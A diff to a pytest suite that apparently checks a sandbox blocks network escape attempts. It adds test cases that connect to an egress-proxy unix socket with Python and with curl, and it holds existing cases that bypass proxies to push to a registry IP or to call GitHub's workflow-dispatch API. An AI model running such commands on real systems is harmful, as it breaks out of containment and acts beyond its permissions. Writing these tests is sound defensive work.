@@ -209,6 +209,10 @@ V3_ATTACKS = {
     _case("a build through an engine's API socket"): (
         "curl -s --unix-socket /run/podman/podman.sock -X POST http://d/v4.0.0/libpod/build >/dev/null 2>&1 || true\n",
         ["found it tried to connect to the engine socket /run/podman/podman.sock (ENOENT)"]),
+    _case("a push through another process's unix socket (an egress proxy)"): (
+        "python3 -c 'import socket, sys\ns = socket.socket(socket.AF_UNIX)\ntry: s.connect(\"/run/egress.sock\")\n"
+        "except OSError: pass' || true\n",
+        ["found it tried to connect to the unix socket /run/egress.sock (ENOENT), a way out of its sandbox"]),
     _case("a push with curl, no proxy"): (
         "curl --noproxy '*' -s -m 5 -X PUT http://140.82.112.6/v2/o/r/manifests/dev >/dev/null 2>&1 || true\n",
         ["found it tried to reach the network (connect to 140.82.112.6:80 (ENETUNREACH)), which a push needs"]),
@@ -339,6 +343,9 @@ def _v4_attacks(standin: str) -> dict[str, tuple[str, list[str]]]:
             ["found it tried to reach the network itself: send to 8.8.8.8:53 (ENETUNREACH)"]),
         _case("IPv6"): ("curl --noproxy '*' -s -m 5 'http://[2606:50c0:8000::154]/' || true\n",
                         ["found it tried to reach the network itself: connect to [2606:50c0:8000::154]:80 (ENETUNREACH)"]),
+        _case("curl through a unix-socket proxy"): (
+            "curl -s -m 5 --unix-socket /run/egress.sock http://api.github.com/repos/o/r/dispatches || true\n",
+            ["found it tried to reach the network itself: tried to connect to the unix socket /run/egress.sock (ENOENT)"]),
         _case("curl to a loopback stand-in for api.github.com"): (
             f"curl --noproxy '*' -s -m 5 -H 'Host: api.github.com' -X POST http://{standin}/repos/o/r/actions/"
             "workflows/build-push.yml/dispatches || true\n",
@@ -349,7 +356,7 @@ def _v4_attacks(standin: str) -> dict[str, tuple[str, list[str]]]:
     }
 
 
-@pytest.mark.parametrize("index", range(8))
+@pytest.mark.parametrize("index", range(9))
 def test_v4_network_attack_never_passes(index: int, sandbox: DevpodSandbox, standin: tuple[str, list[str]],
                                         tmp_path: Path) -> None:
     addr, seen = standin
@@ -420,4 +427,4 @@ def test_v2_an_overlay_error_with_another_cause_never_passes(error: str, workdir
 def test_the_attack_count_is_known() -> None:
     """The report counts these: update the number when an attack is added."""
     v4 = len(_v4_attacks("127.0.0.1:1"))
-    assert len(V3_ATTACKS) == 19 and v4 == 8
+    assert len(V3_ATTACKS) == 20 and v4 == 9
